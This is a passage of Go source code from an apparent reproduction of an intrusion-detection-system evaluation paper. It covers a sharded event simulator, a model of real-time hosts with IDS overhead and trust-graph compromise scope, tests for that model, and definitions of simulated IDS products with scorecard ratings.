		n += ss.runWindow(runTo)
		ss.drainMail()
		ss.windows++
		ss.cWindows.Inc()
		ss.now = runTo + 1
		ss.gNow.Set(int64(ss.now))
	}
	if deadline < maxTime && ss.Interrupted() == nil {
		for _, d := range ss.domains {
			if d.Now() < deadline {
				d.RunUntil(deadline) // advances the clock; nothing <= deadline remains
			}
		}
		// The loop leaves now one past the last window's end (<= deadline+1);
		// report the Sim-compatible "advanced to deadline" clock. The next
		// call's fast-forward skips straight to the first live event, so a
		// window nominally restarting at deadline re-executes nothing.
		ss.now = deadline
	}
	return n
}

// runWindow advances every domain to runTo, using the executor pool when
// more than one worker is configured. Per-domain event totals are
// accumulated into the telemetry counters either way; with attribution
// on (Instrument was called), each domain-window also charges busy and
// barrier-blocked wall time and emits flight timeline events. All of it
// is observation only — the uninstrumented loop performs no clock reads.
func (ss *ShardedSim) runWindow(runTo Time) uint64 {
	winBase := int64(ss.now)
	if ss.attrib != nil && ss.runStart.IsZero() {
		ss.runStart = time.Now()
	}
	var n uint64
	if ss.workers <= 1 {
		for i, d := range ss.domains {
			var t0 time.Time
			if ss.attrib != nil {
				t0 = time.Now()
			}
			en := d.RunUntil(runTo)
			ss.cEvents[i].Add(en)
			n += en
			if ss.attrib != nil {
				busy := time.Since(t0)
				a := &ss.attrib[i]
				a.Events += en
				a.Windows++
				a.Busy += busy
				ss.hOccupancy.Observe(int64(en))
				if en > 0 {
					ss.flight.RecordSpan(obs.FlightWindow, int32(i), t0, busy, winBase, int64(en), "")
				}
			}
		}
		if ss.attrib != nil {
			ss.publishAttribution()
		}
		return n
	}
	ss.ensurePool()
	ss.target = runTo
	for i := range ss.domains {
		ss.jobs <- i
	}
	var last time.Time
	for range ss.domains {
		i := <-ss.acks
		if ss.finished[i].After(last) {
			last = ss.finished[i]
		}
	}
	// Barrier stall: wall time each domain idled waiting for the window's
	// slowest domain. Telemetry only — never feeds back into results.
	for i := range ss.domains {
		stall := last.Sub(ss.finished[i])
		if ss.hStall != nil {
			ss.hStall.Observe(int64(stall))
		}
		en := ss.windowCounts[i]
		n += en
		if ss.attrib != nil {
			busy := ss.finished[i].Sub(ss.started[i])
			a := &ss.attrib[i]
			a.Events += en
			a.Windows++
			a.Busy += busy
			a.Blocked += stall
			ss.hOccupancy.Observe(int64(en))
			if en > 0 {
				ss.flight.RecordSpan(obs.FlightWindow, int32(i), ss.started[i], busy, winBase, int64(en), "")
			}
			if stall > 0 {
				ss.flight.RecordSpan(obs.FlightBarrierWait, int32(i), ss.finished[i], stall, winBase, 0, "")
			}
		}
	}
	if ss.attrib != nil {
		ss.publishAttribution()
	}
	return n
}

// ensurePool starts the executor goroutines on first parallel window.
func (ss *ShardedSim) ensurePool() {
	if ss.jobs != nil {
		return
	}
	ss.jobs = make(chan int, len(ss.domains))
	ss.acks = make(chan int, len(ss.domains))
	ss.windowCounts = make([]uint64, len(ss.domains))
	for w := 0; w < ss.workers; w++ {
		go func() {
			for i := range ss.jobs {
				ss.started[i] = time.Now()
				en := ss.domains[i].RunUntil(ss.target)
				ss.windowCounts[i] = en
				ss.cEvents[i].Add(en)
				ss.finished[i] = time.Now()
				ss.acks <- i
			}
		}()
	}
}

// Close shuts the executor pool down. Safe to call multiple times and
// on a coordinator that never went parallel.
func (ss *ShardedSim) Close() {
	if ss.closed {
		return
	}
	ss.closed = true
	if ss.jobs != nil {
		close(ss.jobs)
	}
}

// drainMail moves every buffered cross-domain message into its
// destination heap, in the fixed merge order (at, sent, src, idx): by
// delivery time first; equal-time deliveries replay in virtual send
// order, then by source domain, then by per-pair send ordinal. The order
// is a strict total order (src, idx is unique), so the merged schedule —
// and therefore each destination's (time, seq) event order — is
// identical for every executor count.
func (ss *ShardedSim) drainMail() {
	for dst := range ss.domains {
		ss.merged = ss.merged[:0]
		for src := range ss.domains {
			buf := ss.mail[src][dst]
			if len(buf) == 0 {
				continue
			}
			ss.merged = append(ss.merged, buf...)
			ss.mail[src][dst] = buf[:0]
		}
		if len(ss.merged) == 0 {
			continue
		}
		sort.Slice(ss.merged, func(i, j int) bool {
			a, b := ss.merged[i], ss.merged[j]
			if a.at != b.at {
				return a.at < b.at
			}
			if a.sent != b.sent {
				return a.sent < b.sent
			}
			if a.src != b.src {
				return a.src < b.src
			}
			return a.idx < b.idx
		})
		dom := ss.domains[dst]
		for i := range ss.merged {
			m := &ss.merged[i]
			if _, err := dom.ScheduleAt(m.at, m.fn); err != nil {
				panic(fmt.Sprintf("simtime: cross-domain delivery into d%d at %v rejected: %v", dst, m.at, err))
			}
			m.fn = nil
		}
		ss.posted += uint64(len(ss.merged))
		ss.cPosted.Add(uint64(len(ss.merged)))
	}
}
