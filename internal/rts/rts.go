// Package rts models the distributed real-time system the IDS protects:
// hosts with finite CPU running periodic deadline-constrained tasks, and
// the inter-host trust relationships the paper warns about ("when one
// host is compromised, other systems that trust it may be very easily
// compromised"). The model exists to make two of the paper's concerns
// measurable: the Operational Performance Impact metric (what fraction of
// a monitored host's capacity an IDS consumes, and what that does to
// deadlines) and compromise-scope analysis.
package rts

import (
	"fmt"
	"math"
	"sort"
	"time"

	"repro/internal/simtime"
)

// Task is a periodic real-time task.
type Task struct {
	// Name identifies the task.
	Name string
	// Period between releases.
	Period time.Duration
	// WCET is the execution demand per job at full processor speed.
	WCET time.Duration
	// Deadline is relative to release (0 means deadline = period).
	Deadline time.Duration
}

// effectiveDeadline resolves the implicit deadline.
func (t Task) effectiveDeadline() time.Duration {
	if t.Deadline > 0 {
		return t.Deadline
	}
	return t.Period
}

// Utilization is the task's processor demand fraction.
func (t Task) Utilization() float64 {
	if t.Period <= 0 {
		return 0
	}
	return float64(t.WCET) / float64(t.Period)
}

// Host is one cluster node: a processor-sharing CPU running periodic
// tasks, with external overhead consumers (IDS agents, logging) stealing
// a fraction of capacity.
type Host struct {
	sim  *simtime.Sim
	name string

	tasks   []Task
	tickers []*simtime.Ticker

	// overheads maps consumer name -> stolen CPU fraction.
	overheads map[string]float64

	// JobsReleased / DeadlineMisses / JobsCompleted count outcomes.
	JobsReleased   uint64
	JobsCompleted  uint64
	DeadlineMisses uint64
	// WorstLateness is the largest completion-past-deadline observed.
	WorstLateness time.Duration

	running bool
}

// NewHost creates a host on the given simulation.
func NewHost(sim *simtime.Sim, name string) *Host {
	return &Host{sim: sim, name: name, overheads: make(map[string]float64)}
}

// Name returns the host name.
func (h *Host) Name() string { return h.name }

// AddTask registers a periodic task. Tasks may not be added after Start.
func (h *Host) AddTask(t Task) error {
	if h.running {
		return fmt.Errorf("rts: host %s already started", h.name)
	}
	if t.Period <= 0 || t.WCET <= 0 {
		return fmt.Errorf("rts: task %q needs positive period and WCET", t.Name)
	}
	h.tasks = append(h.tasks, t)
	return nil
}

// SetOverhead records that the named consumer steals fraction f of the
// CPU (replacing any prior value for that consumer).
func (h *Host) SetOverhead(consumer string, f float64) error {
	if f < 0 || f >= 1 || math.IsNaN(f) {
		return fmt.Errorf("rts: overhead %v for %q outside [0,1)", f, consumer)
	}
	h.overheads[consumer] = f
	return nil
}

// Overhead returns the total stolen CPU fraction.
func (h *Host) Overhead() float64 {
	var sum float64
	for _, f := range h.overheads {
		sum += f
	}
	if sum > 0.999 {
		sum = 0.999
	}
	return sum
}

// TaskUtilization returns the task set's nominal processor demand.
func (h *Host) TaskUtilization() float64 {
	var u float64
	for _, t := range h.tasks {
		u += t.Utilization()
	}
	return u
}

// Start begins releasing jobs. Under processor sharing with overhead f,
// a job of demand W released into a task set with total utilization U
// completes after roughly W / max(ε, 1 − f − (U − its own share)); the
// model keeps it simpler and uniform: the whole task set shares capacity
// (1 − f), so each job's stretch factor is U / (1 − f) when U exceeds
// available capacity, and 1/(1 − f) per unit of demand otherwise.
func (h *Host) Start() error {
	if h.running {
		return fmt.Errorf("rts: host %s already started", h.name)
	}
	h.running = true
	for i := range h.tasks {
		t := h.tasks[i]
		tk, err := h.sim.NewTicker(t.Period, func() { h.release(t) })
		if err != nil {
			return err
		}
		h.tickers = append(h.tickers, tk)
	}
	return nil
}

// Stop halts job releases.
func (h *Host) Stop() {
	for _, tk := range h.tickers {
		tk.Stop()
	}
	h.tickers = nil
	h.running = false
}

// release models one job: completion time under the shared-capacity
// stretch model, deadline check at completion.
func (h *Host) release(t Task) {
	h.JobsReleased++
	avail := 1 - h.Overhead()
	if avail < 0.001 {
		avail = 0.001
	}
	stretch := 1 / avail
	if u := h.TaskUtilization(); u > avail {
		// Oversubscribed: every job additionally stretches by the load
		// factor u/avail (queueing-delay approximation).
		stretch = u / (avail * avail)
	}
	completion := time.Duration(float64(t.WCET) * stretch)
	deadline := t.effectiveDeadline()
	h.sim.MustSchedule(completion, func() {
		h.JobsCompleted++
		if completion > deadline {
			h.DeadlineMisses++
			if late := completion - deadline; late > h.WorstLateness {
				h.WorstLateness = late
			}
		}
	})
}

// MissRatio returns deadline misses per completed job.
func (h *Host) MissRatio() float64 {
	if h.JobsCompleted == 0 {
		return 0
	}
	return float64(h.DeadlineMisses) / float64(h.JobsCompleted)
}

// StandardTaskSet is a representative weapons-control workload: a fast
// sensor-fusion loop, a control loop, telemetry, and a display refresher.
// Total utilization ≈ 0.70, leaving the ~25% headroom a fielded system
// keeps for transients — so ~5% logging overhead is absorbed but ~20%
// C2-level logging pushes tight tasks over their deadlines.
func StandardTaskSet() []Task {
	return []Task{
		{Name: "sensor-fusion", Period: 10 * time.Millisecond, WCET: 3 * time.Millisecond, Deadline: 3500 * time.Microsecond},
		{Name: "control-loop", Period: 20 * time.Millisecond, WCET: 5 * time.Millisecond, Deadline: 6 * time.Millisecond},
		{Name: "telemetry", Period: 50 * time.Millisecond, WCET: 6 * time.Millisecond},
		{Name: "display", Period: 100 * time.Millisecond, WCET: 3 * time.Millisecond},
	}
}

// TrustGraph records which hosts trust which (directed: an edge a->b
// means b trusts a, so compromising a exposes b).
type TrustGraph struct {
	edges map[string][]string
	nodes map[string]bool
}

// NewTrustGraph creates an empty graph.
func NewTrustGraph() *TrustGraph {
	return &TrustGraph{edges: make(map[string][]string), nodes: make(map[string]bool)}
}

// AddNode registers a host.
func (g *TrustGraph) AddNode(name string) { g.nodes[name] = true }

// AddTrust records that `trusting` trusts `trusted` (compromise of
// trusted endangers trusting).
func (g *TrustGraph) AddTrust(trusting, trusted string) {
	g.AddNode(trusting)
	g.AddNode(trusted)
	g.edges[trusted] = append(g.edges[trusted], trusting)
}

// Nodes returns all hosts, sorted.
func (g *TrustGraph) Nodes() []string {
	out := make([]string, 0, len(g.nodes))
	for n := range g.nodes {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// CompromiseScope returns every host transitively endangered if start is
// compromised (including start), sorted — the computation behind the
// Analysis of Compromise metric ("determine which of the distributed
// systems is compromised for safer resource allocation").
func (g *TrustGraph) CompromiseScope(start string) []string {
	if !g.nodes[start] {
		return nil
	}
	seen := map[string]bool{start: true}
	queue := []string{start}
	for len(queue) > 0 {
		cur := queue[0]
		queue = queue[1:]
		for _, nxt := range g.edges[cur] {
			if !seen[nxt] {
				seen[nxt] = true
				queue = append(queue, nxt)
			}
		}
	}
	out := make([]string, 0, len(seen))
	for n := range seen {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// FullTrustCluster builds the pathological everyone-trusts-everyone
// cluster the paper warns about: compromise of any node endangers all.
func FullTrustCluster(names []string) *TrustGraph {
	g := NewTrustGraph()
	for _, a := range names {
		for _, b := range names {
			if a != b {
				g.AddTrust(a, b)
			}
		}
	}
	return g
}
