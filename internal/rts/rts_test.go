package rts

import (
	"reflect"
	"testing"
	"testing/quick"
	"time"

	"repro/internal/simtime"
)

func TestTaskUtilization(t *testing.T) {
	task := Task{Name: "t", Period: 10 * time.Millisecond, WCET: 3 * time.Millisecond}
	if u := task.Utilization(); u < 0.299 || u > 0.301 {
		t.Fatalf("utilization = %v", u)
	}
}

func TestHostValidation(t *testing.T) {
	sim := simtime.New(1)
	h := NewHost(sim, "n0")
	if err := h.AddTask(Task{Name: "bad", Period: 0, WCET: time.Millisecond}); err == nil {
		t.Fatal("zero period accepted")
	}
	if err := h.SetOverhead("x", -0.1); err == nil {
		t.Fatal("negative overhead accepted")
	}
	if err := h.SetOverhead("x", 1.0); err == nil {
		t.Fatal("overhead 1.0 accepted")
	}
	if err := h.AddTask(Task{Name: "ok", Period: time.Second, WCET: time.Millisecond}); err != nil {
		t.Fatal(err)
	}
	if err := h.Start(); err != nil {
		t.Fatal(err)
	}
	if err := h.Start(); err == nil {
		t.Fatal("double start accepted")
	}
	if err := h.AddTask(Task{Name: "late", Period: time.Second, WCET: time.Millisecond}); err == nil {
		t.Fatal("AddTask after Start accepted")
	}
}

func runHost(t *testing.T, overhead float64, dur time.Duration) *Host {
	t.Helper()
	sim := simtime.New(1)
	h := NewHost(sim, "n0")
	for _, task := range StandardTaskSet() {
		if err := h.AddTask(task); err != nil {
			t.Fatal(err)
		}
	}
	if overhead > 0 {
		if err := h.SetOverhead("ids", overhead); err != nil {
			t.Fatal(err)
		}
	}
	if err := h.Start(); err != nil {
		t.Fatal(err)
	}
	sim.RunUntil(dur)
	h.Stop()
	sim.Run()
	return h
}

func TestNoMissesWithoutOverhead(t *testing.T) {
	h := runHost(t, 0, 2*time.Second)
	if h.JobsReleased == 0 {
		t.Fatal("no jobs released")
	}
	if h.DeadlineMisses != 0 {
		t.Fatalf("%d misses with zero overhead", h.DeadlineMisses)
	}
}

func TestNominalLoggingAbsorbed(t *testing.T) {
	// ~4% overhead (nominal logging): all deadlines still met.
	h := runHost(t, 0.04, 2*time.Second)
	if h.DeadlineMisses != 0 {
		t.Fatalf("%d misses at 4%% overhead", h.DeadlineMisses)
	}
}

func TestC2LoggingCausesMisses(t *testing.T) {
	// ~20% overhead (C2 auditing): tight deadlines blow.
	h := runHost(t, 0.20, 2*time.Second)
	if h.DeadlineMisses == 0 {
		t.Fatal("no misses at 20% overhead")
	}
	if h.MissRatio() <= 0 {
		t.Fatal("miss ratio not positive")
	}
	if h.WorstLateness <= 0 {
		t.Fatal("no lateness recorded")
	}
}

func TestOverheadAccumulatesAcrossConsumers(t *testing.T) {
	sim := simtime.New(1)
	h := NewHost(sim, "n0")
	h.SetOverhead("a", 0.1)
	h.SetOverhead("b", 0.15)
	if got := h.Overhead(); got < 0.249 || got > 0.251 {
		t.Fatalf("Overhead() = %v", got)
	}
	// Replacing a consumer's value must not double count.
	h.SetOverhead("a", 0.05)
	if got := h.Overhead(); got < 0.199 || got > 0.201 {
		t.Fatalf("Overhead() after update = %v", got)
	}
}

func TestStandardTaskSetHeadroom(t *testing.T) {
	var u float64
	for _, task := range StandardTaskSet() {
		u += task.Utilization()
	}
	if u < 0.5 || u > 0.85 {
		t.Fatalf("standard utilization %v outside plausible band", u)
	}
}

// Property: deadline misses are monotone in overhead.
func TestPropertyMissesMonotoneInOverhead(t *testing.T) {
	f := func(raw uint8) bool {
		lo := float64(raw%50) / 100 // 0.00 .. 0.49
		hi := lo + 0.3
		a := runHostQuiet(lo)
		b := runHostQuiet(hi)
		return b >= a
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 12}); err != nil {
		t.Fatal(err)
	}
}

func runHostQuiet(overhead float64) uint64 {
	sim := simtime.New(1)
	h := NewHost(sim, "n0")
	for _, task := range StandardTaskSet() {
		_ = h.AddTask(task)
	}
	_ = h.SetOverhead("ids", overhead)
	_ = h.Start()
	sim.RunUntil(time.Second)
	h.Stop()
	sim.Run()
	return h.DeadlineMisses
}

func TestTrustGraphCompromiseScope(t *testing.T) {
	g := NewTrustGraph()
	// chain: c trusts b trusts a; d isolated.
	g.AddTrust("b", "a")
	g.AddTrust("c", "b")
	g.AddNode("d")
	got := g.CompromiseScope("a")
	want := []string{"a", "b", "c"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("scope(a) = %v, want %v", got, want)
	}
	if got := g.CompromiseScope("c"); !reflect.DeepEqual(got, []string{"c"}) {
		t.Fatalf("scope(c) = %v", got)
	}
	if got := g.CompromiseScope("missing"); got != nil {
		t.Fatalf("scope of unknown node = %v", got)
	}
}

func TestFullTrustClusterTotalExposure(t *testing.T) {
	names := []string{"n0", "n1", "n2", "n3"}
	g := FullTrustCluster(names)
	for _, n := range names {
		if got := g.CompromiseScope(n); len(got) != len(names) {
			t.Fatalf("scope(%s) = %v, want all %d nodes", n, got, len(names))
		}
	}
}

// Property: compromise scope always contains the start node and is a
// subset of all nodes.
func TestPropertyCompromiseScope(t *testing.T) {
	f := func(edges []uint8) bool {
		g := NewTrustGraph()
		names := []string{"a", "b", "c", "d", "e"}
		for _, n := range names {
			g.AddNode(n)
		}
		for _, e := range edges {
			g.AddTrust(names[int(e)%5], names[int(e>>4)%5])
		}
		for _, n := range names {
			scope := g.CompromiseScope(n)
			if len(scope) == 0 || len(scope) > len(names) {
				return false
			}
			found := false
			for _, s := range scope {
				if s == n {
					found = true
				}
			}
			if !found {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkHostSecond(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sim := simtime.New(1)
		h := NewHost(sim, "n0")
		for _, task := range StandardTaskSet() {
			_ = h.AddTask(task)
		}
		_ = h.Start()
		sim.RunUntil(time.Second)
		h.Stop()
		sim.Run()
	}
}
