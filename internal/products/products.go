// Package products defines the four simulated IDS products the evaluation
// exercises, standing in for the systems the paper tested: NFR Security's
// NID 5.0, ISS RealSecure 5.0, Recourse Technologies' ManHunt 1.2, and the
// AAFID research prototype. The real products are closed-source and
// discontinued, so each stand-in models its original's *architecture
// class* — engine mechanism, sensing fan-out, load-balancing discipline,
// failure behaviour, management features — with enough differentiation
// that every scorecard metric separates the field (the paper's
// "characteristic" requirement).
//
//	NetRecorder 5.0  (NFR NID-class)     — programmable signature NIDS,
//	    static sensor placement, strong filter authoring, fragile under
//	    flood.
//	TrueSecure 5.0   (RealSecure-class)  — commercial signature NIDS with
//	    host agents and a strong management console (firewall + SNMP
//	    response).
//	StreamHunter 1.2 (ManHunt-class)     — high-speed anomaly NIDS with
//	    intelligent dynamic load balancing and router (honeypot
//	    redirection) response.
//	AgentSwarm 0.9   (AAFID-class)       — research prototype of
//	    autonomous host-based agents; hybrid detection, free license,
//	    thin management.
package products

import (
	"fmt"
	"strings"
	"time"

	"repro/internal/core"
	"repro/internal/detect"
	"repro/internal/hostmon"
	"repro/internal/ids"
	"repro/internal/simtime"
)

// Spec is a product definition: how to build its IDS instance plus the
// statically-observed metric scores (vendor documentation, lab analysis
// of the management surface) that the measurement harness does not
// produce.
type Spec struct {
	// Name and Version identify the product.
	Name    string
	Version string
	// Summary is a one-line description for reports.
	Summary string
	// IDS is the architecture; Engine inside it selects the mechanism.
	IDS ids.Config
	// HostAgents deploys hostmon agents on every protected host.
	HostAgents bool
	// HostAgentLevel is the agents' logging depth.
	HostAgentLevel hostmon.LogLevel
	// Static are the scorecard observations fixed by product analysis and
	// open-source material rather than testbed measurement.
	Static []core.Observation
	// ResponsePolicy maps attack techniques to console actions (applied
	// when the product has a console).
	ResponsePolicy map[string]ids.ResponseAction
}

// Instantiate builds the product's IDS on the given simulation.
func (s Spec) Instantiate(sim *simtime.Sim) (*ids.IDS, error) {
	cfg := s.IDS
	cfg.Name = s.Name
	inst, err := ids.New(sim, cfg)
	if err != nil {
		return nil, fmt.Errorf("products: building %s: %w", s.Name, err)
	}
	if inst.Console() != nil {
		for tech, action := range s.ResponsePolicy {
			inst.Console().SetPolicy(tech, action)
		}
	}
	return inst, nil
}

// ApplyStatic records the product's static observations onto a scorecard.
func (s Spec) ApplyStatic(card *core.Scorecard) error {
	for _, o := range s.Static {
		if err := card.Set(o); err != nil {
			return fmt.Errorf("products: %s static scores: %w", s.Name, err)
		}
	}
	return nil
}

// obs is shorthand for building observations.
func obs(id string, score core.Score, how core.Method, note string) core.Observation {
	return core.Observation{MetricID: id, Score: score, How: how, Note: note}
}

// blockAllPolicy is the aggressive response posture: firewall-block every
// external technique.
func blockAllPolicy() map[string]ids.ResponseAction {
	return map[string]ids.ResponseAction{
		"exploit":    ids.ActionFirewallBlock,
		"portscan":   ids.ActionFirewallBlock,
		"synflood":   ids.ActionFirewallBlock,
		"bruteforce": ids.ActionFirewallBlock,
		"masquerade": ids.ActionSNMPTrap,
	}
}

// NetRecorder is the NFR NID-class product: a programmable signature
// engine with excellent filter authoring (N-code in the original), sensor
// placement instead of true load balancing, and crash-prone behaviour
// under flood (restarts its daemon).
func NetRecorder() Spec {
	a, o, both := core.ByAnalysis, core.ByOpenSource, core.ByAnalysis|core.ByOpenSource
	return Spec{
		Name: "NetRecorder", Version: "5.0",
		Summary: "programmable signature NIDS, static sensor placement",
		IDS: ids.Config{
			Sensors:  2,
			Balancer: ids.BalancerStatic,
			// Full-capture heritage: NetRecorder scans reassembled
			// streams, so signature-splitting evasion does not work on it.
			Engine:      func() detect.Engine { return detect.NewReassemblingSignatureEngine() },
			SensorQueue: 1024, LethalDropsPerSec: 3000, SensorSpeedFactor: 1,
			FailureMode: ids.FailCrash, RestartAfter: 30 * time.Second,
			HasConsole:        true,
			SeparateAnalysis:  true,
			CorrelationWindow: 5 * time.Second,
			// Full-capture heritage: record alerting sessions for replay.
			RecordSessions:    true,
			RecordBudgetBytes: 256 << 10,
		},
		ResponsePolicy: map[string]ids.ResponseAction{
			"exploit": ids.ActionSNMPTrap, "synflood": ids.ActionSNMPTrap,
		},
		Static: []core.Observation{
			// Logistical (Table 1).
			obs(core.MDistributedManagement, 2, both, "remote console exists; transport unencrypted"),
			obs(core.MEaseOfConfiguration, 2, a, "filter language powerful but setup is expert work"),
			obs(core.MEaseOfPolicyMaint, 3, a, "filters are code; versionable and reusable"),
			obs(core.MLicenseManagement, 2, o, "per-sensor licenses, manual renewal"),
			obs(core.MOutsourcedSolution, 4, o, "fully self-hosted; no external dependency"),
			obs(core.MPlatformRequirements, 2, both, "dedicated sensor boxes, modest analyzer host"),
			// Logistical (untabled).
			obs("quality-of-documentation", 3, o, "filter-language manual is thorough"),
			obs("ease-of-attack-filter-generation", 4, a, "full programmable filter language"),
			obs("evaluation-copy-availability", 3, o, "30-day evaluation images"),
			obs("level-of-administration", 2, a, "filters need expert upkeep"),
			obs("product-lifetime", 3, o, "established vendor, annual majors"),
			obs("quality-of-technical-support", 3, o, "responsive engineering support"),
			obs("three-year-cost", 2, o, "sensor hardware plus per-sensor licenses"),
			obs("training-support", 3, o, "filter-authoring courses offered"),
			// Architectural statics.
			obs(core.MDataPoolSelectability, 4, a, "arbitrary filter predicates on any header field"),
			obs(core.MHostBased, 0, both, "no host data sources"),
			obs(core.MNetworkBased, 4, both, "all input from packet capture"),
			obs(core.MMultiSensorSupport, 2, a, "multiple sensors, loosely integrated"),
			obs("anomaly-based", 0, both, "no behavioural model"),
			obs("signature-based", 4, both, "pure misuse detection"),
			obs("autonomous-learning", 0, a, "none"),
			obs("host-os-security", 2, a, "hardened sensor image"),
			obs("interoperability", 2, a, "SNMP traps out; no inbound integration"),
			obs("package-contents", 3, o, "sensor + console + filter library"),
			obs("process-security", 2, a, "daemon restarts but is killable"),
			obs("visibility", 3, a, "passive taps; hard to see on the wire"),
			// Performance (untabled statics).
			obs("analysis-of-intruder-intent", 1, a, "raw events only"),
			obs("clarity-of-reports", 2, a, "terse textual reports"),
			obs("effectiveness-of-generated-filters", 3, a, "authored filters block precisely"),
			obs("evidence-collection", 4, a, "full packet recording by design"),
			obs("information-sharing", 1, a, "export via flat files"),
			obs("notification-user-alerts", 2, a, "console + email"),
			obs("program-interaction", 3, a, "filters can exec programs"),
			obs("session-recording-playback", 4, a, "records and replays sessions"),
			obs("threat-correlation", 2, a, "per-sensor correlation only"),
			obs("trend-analysis", 2, a, "daily rollups"),
		},
	}
}

// TrueSecure is the RealSecure-class product: mainstream commercial
// signature NIDS plus host agents, with the strongest management story —
// centralized encrypted console, firewall and SNMP response.
func TrueSecure() Spec {
	a, o, both := core.ByAnalysis, core.ByOpenSource, core.ByAnalysis|core.ByOpenSource
	return Spec{
		Name: "TrueSecure", Version: "5.0",
		Summary: "commercial signature NIDS with host agents and strong console",
		IDS: ids.Config{
			Sensors:  2,
			Balancer: ids.BalancerFlowHash,
			Engine: func() detect.Engine {
				return detect.NewHybridEngine(
					detect.NewStandardSignatureEngine(), detect.NewAnomalyEngine(), detect.HybridSerial)
			},
			SensorQueue: 2048, LethalDropsPerSec: 5000, SensorSpeedFactor: 1.3,
			FailureMode: ids.FailCrash, RestartAfter: 10 * time.Second,
			HasConsole:        true,
			CorrelationWindow: 5 * time.Second,
		},
		HostAgents:     true,
		HostAgentLevel: hostmon.LogNominal,
		ResponsePolicy: blockAllPolicy(),
		Static: []core.Observation{
			obs(core.MDistributedManagement, 4, both, "encrypted central console manages all sensors and agents"),
			obs(core.MEaseOfConfiguration, 3, a, "GUI-driven install and policy push"),
			obs(core.MEaseOfPolicyMaint, 3, a, "policy templates, central push"),
			obs(core.MLicenseManagement, 1, o, "per-sensor and per-agent keys, strict enforcement"),
			obs(core.MOutsourcedSolution, 3, o, "optional managed service; self-hosted default"),
			obs(core.MPlatformRequirements, 1, both, "agents on every host plus beefy console server"),
			obs("quality-of-documentation", 4, o, "extensive commercial docs"),
			obs("ease-of-attack-filter-generation", 1, a, "vendor-signature updates only; no authoring"),
			obs("evaluation-copy-availability", 2, o, "sales-gated evaluations"),
			obs("level-of-administration", 3, a, "low-touch once deployed"),
			obs("product-lifetime", 4, o, "flagship product line"),
			obs("quality-of-technical-support", 4, o, "24/7 commercial support"),
			obs("three-year-cost", 1, o, "highest total cost of the field"),
			obs("training-support", 4, o, "certification program"),
			obs(core.MDataPoolSelectability, 2, a, "protocol/port include lists"),
			obs(core.MHostBased, 3, both, "agents read logs and audit trails"),
			obs(core.MNetworkBased, 3, both, "network sensors are primary input"),
			obs(core.MMultiSensorSupport, 4, a, "console integrates sensors and agents"),
			obs("anomaly-based", 1, both, "limited protocol-anomaly checks"),
			obs("signature-based", 4, both, "vendor signature corpus"),
			obs("autonomous-learning", 0, a, "none"),
			obs("host-os-security", 3, a, "agent tamper alarms"),
			obs("interoperability", 4, a, "firewall, SNMP, and API integrations"),
			obs("package-contents", 4, o, "sensors, agents, console, updater"),
			obs("process-security", 3, a, "watchdog restarts daemons"),
			obs("visibility", 2, a, "agents visible on hosts"),
			obs("analysis-of-intruder-intent", 2, a, "attack-category narratives"),
			obs("clarity-of-reports", 4, a, "polished operator reports"),
			obs("effectiveness-of-generated-filters", 3, a, "auto firewall rules mostly precise"),
			obs("evidence-collection", 2, a, "event records, no full capture"),
			obs("information-sharing", 3, a, "enterprise event export"),
			obs("notification-user-alerts", 4, a, "console, email, pager, SNMP"),
			obs("program-interaction", 2, a, "fixed response hooks"),
			obs("session-recording-playback", 1, a, "none beyond event logs"),
			obs("threat-correlation", 3, a, "cross-sensor console correlation"),
			obs("trend-analysis", 3, a, "console trend dashboards"),
		},
	}
}

// StreamHunter is the ManHunt-class product: anomaly detection engineered
// for gigabit rates, with intelligent dynamic load balancing across a
// sensor pool and router-level response (redirect to a decoy).
func StreamHunter() Spec {
	a, o, both := core.ByAnalysis, core.ByOpenSource, core.ByAnalysis|core.ByOpenSource
	return Spec{
		Name: "StreamHunter", Version: "1.2",
		Summary: "high-speed anomaly NIDS with dynamic load balancing",
		IDS: ids.Config{
			Sensors:     4,
			Balancer:    ids.BalancerDynamic,
			Engine:      func() detect.Engine { return detect.NewAnomalyEngine() },
			SensorQueue: 4096, LethalDropsPerSec: 12000, SensorSpeedFactor: 2,
			FailureMode: ids.FailOpen,
			HasConsole:  true, BalancerCost: 2 * time.Microsecond,
			CorrelationWindow: 5 * time.Second,
		},
		ResponsePolicy: map[string]ids.ResponseAction{
			"rate-anomaly":    ids.ActionRouterRedirect,
			"novel-service":   ids.ActionSNMPTrap,
			"content-anomaly": ids.ActionRouterRedirect,
		},
		Static: []core.Observation{
			obs(core.MDistributedManagement, 3, both, "remote console over SSH; per-cell admin domains"),
			obs(core.MEaseOfConfiguration, 2, a, "topology-aware setup needs network expertise"),
			obs(core.MEaseOfPolicyMaint, 2, a, "thresholds, not signatures; policy is tuning"),
			obs(core.MLicenseManagement, 2, o, "bandwidth-tiered licenses"),
			obs(core.MOutsourcedSolution, 4, o, "fully self-hosted"),
			obs(core.MPlatformRequirements, 3, both, "sensor pool scales to commodity boxes"),
			obs("quality-of-documentation", 2, o, "young product, thin manuals"),
			obs("ease-of-attack-filter-generation", 2, a, "threshold/zone definitions only"),
			obs("evaluation-copy-availability", 2, o, "pilot engagements"),
			obs("level-of-administration", 3, a, "self-tuning baselines reduce care"),
			obs("product-lifetime", 2, o, "startup vendor"),
			obs("quality-of-technical-support", 2, o, "small support team"),
			obs("three-year-cost", 3, o, "software-only on commodity hardware"),
			obs("training-support", 1, o, "ad-hoc vendor training"),
			obs(core.MDataPoolSelectability, 3, a, "zones and protocol classes selectable"),
			obs(core.MHostBased, 0, both, "network only"),
			obs(core.MNetworkBased, 4, both, "all input from the wire"),
			obs(core.MMultiSensorSupport, 4, a, "sensor pool is the design center"),
			obs("anomaly-based", 4, both, "statistical behaviour models"),
			obs("signature-based", 0, both, "no signature corpus"),
			obs("autonomous-learning", 3, a, "baselines learned online"),
			obs("host-os-security", 3, a, "minimal hardened OS image"),
			obs("interoperability", 3, a, "router and SNMP control paths"),
			obs("package-contents", 2, o, "software plus reference configs"),
			obs("process-security", 3, a, "sensor pool degrades gracefully"),
			obs("visibility", 4, a, "fully passive pool behind balancer"),
			obs("analysis-of-intruder-intent", 2, a, "anomaly class narratives"),
			obs("clarity-of-reports", 2, a, "statistical views need interpretation"),
